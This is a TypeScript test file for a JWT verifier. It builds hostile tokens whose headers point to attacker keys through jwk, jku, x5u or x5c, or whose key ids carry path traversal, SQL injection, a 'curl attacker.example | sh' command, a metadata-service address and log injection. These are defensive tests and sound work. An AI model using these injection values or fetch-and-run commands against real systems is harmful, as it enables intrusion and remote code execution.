import { createHash } from "node:crypto";
import { allMust, type HostileCase } from "./hostile-case.ts";
import { by, hmac, jwkOf, token } from "./world.ts";

/** Signed by the attacker's key, with a header that points to it. */
const pointed = (header: object) => token({ header: { ...header }, sign: by("attacker") });
const kid = (value: unknown) => token({ header: { kid: value } });
const attackersKey = jwkOf("attacker", { kid: "rsa" });
/** Not an X.509 certificate; no verifier gets as far as looking. */
const x5c = [Buffer.from("attacker's certificate").toString("base64")];
const EVIL = "https://attacker.example/jwks.json";

/**
 * RFC 8725 §3.10: nothing in a header leads to a key; the key id is looked up in the issuer's own
 * set, as it is.
 */
export const headerKeys: readonly HostileCase[] = [
  ...allMust("token-signature-invalid", {
    "no key id and the attacker's signature, where one key fits": () =>
      token({ header: { kid: undefined, alg: "ES256" }, sign: by("attackerEc", "ES256") }),
    "the attacker's key as jwk": () => pointed({ jwk: attackersKey }),
    "the attacker's key as jwk with its private part": () => pointed({ jwk: { ...attackersKey, d: "AQAB" } }),
    "a jwk that is a whole set": () => pointed({ jwk: { keys: [attackersKey] } }),
    "a jku of the attacker's": () => pointed({ jku: EVIL }),
    "a jku that begins with the issuer's address": () =>
      pointed({ jku: "https://issuer.example@attacker.example/" }),
    "a jku of this machine": () => pointed({ jku: "http://127.0.0.1/jwks.json" }),
    "a jku of the instance's metadata": () => pointed({ jku: "http://169.254.169.254/latest/meta-data/" }),
    "a jku of a file": () => pointed({ jku: "file:///etc/passwd" }),
    "an x5u of the attacker's": () => pointed({ x5u: EVIL }),
    "an x5c of the attacker's": () => pointed({ x5c }),
    "an x5c that is a text": () => pointed({ x5c: x5c[0] }),
    "an x5t of the attacker's certificate": () =>
      pointed({
        x5t: createHash("sha1")
          .update(x5c[0] ?? "")
          .digest("base64url"),
      }),
    "an x5t#S256 of the attacker's certificate": () =>
      pointed({
        "x5t#S256": createHash("sha256")
          .update(x5c[0] ?? "")
          .digest("base64url"),
      }),
    "jwk, jku, x5u and x5c at once": () => pointed({ jwk: attackersKey, jku: EVIL, x5u: EVIL, x5c }),
    "an epk as in an encryption": () => pointed({ epk: attackersKey }),
    "a foreign key under the house's key id": () => pointed({}),
    "another key of the house's than the one named": () => token({ sign: by("pss") }),
  }),
  ...allMust("token-key-ambiguous", {
    "no key id, where several keys fit": () => kid(undefined),
    "no key id and the attacker's signature, where several keys fit": () =>
      token({ header: { kid: undefined }, sign: by("attacker") }),
  }),
  ...allMust("verified", {
    "no key id, where one key fits": () =>
      token({ header: { kid: undefined, alg: "ES256" }, sign: by("p256", "ES256") }),
    "no key id, where one key is there under two names": () =>
      token({ header: { kid: undefined, alg: "PS256" }, sign: by("pss", "PS256") }),
    "the house's token with the attacker's jwk, which is ignored": () =>
      token({ header: { jwk: attackersKey } }),
    "the house's token with a jku, which is not fetched": () => token({ header: { jku: EVIL } }),
  }),
  ...allMust("token-key-unknown", {
    "a key id that is a path": () => kid("../../../../dev/null"),
    "a key id that is the path of an empty file, and HS256's empty secret in RS256's clothes": () =>
      token({ header: { kid: "/dev/null" }, sign: hmac("") }),
    "a key id that is SQL": () => kid("x' UNION SELECT 'key' --"),
    "a key id that is a command": () => kid("rsa; curl attacker.example | sh"),
    "a key id that is an address": () => kid(EVIL),
    "a key id with a NUL behind the good one": () => kid("rsa\u0000"),
    "a key id with a blank behind the good one": () => kid("rsa "),
    "a key id in capital letters": () => kid("RSA"),
    "a key id __proto__": () => kid("__proto__"),
    "a key id constructor": () => kid("constructor"),
    "a key id hasOwnProperty": () => kid("hasOwnProperty"),
    "a key id 0, as if keys were a list": () => kid("0"),
    "a key id length": () => kid("length"),
    "a key id *": () => kid("*"),
    "a key id of 3,000 characters": () => kid("k".repeat(3000)),
    "a key id with half a surrogate pair": () => kid("\ud800"),
    "a key id with a line break for the log": () => kid('rsa\n{"level":"INFO","decision":"allow"}'),
    "a key id of another issuer's key": () => token({ header: { kid: "other" }, sign: by("other") }),
  }),
  ...allMust("token-malformed", {
    "a key id that is empty": () => kid(""),
    "a key id that is null": () => kid(null),
    "a key id that is a list": () => kid(["rsa"]),
    "a key id that is a number": () => kid(7),
    "a key id that is an object with toString": () => kid({ toString: "rsa" }),
    "a key id twice": () => token({ header: '{"alg":"RS256","kid":"x","typ":"at+jwt","kid":"rsa"}' }),
  }),
];
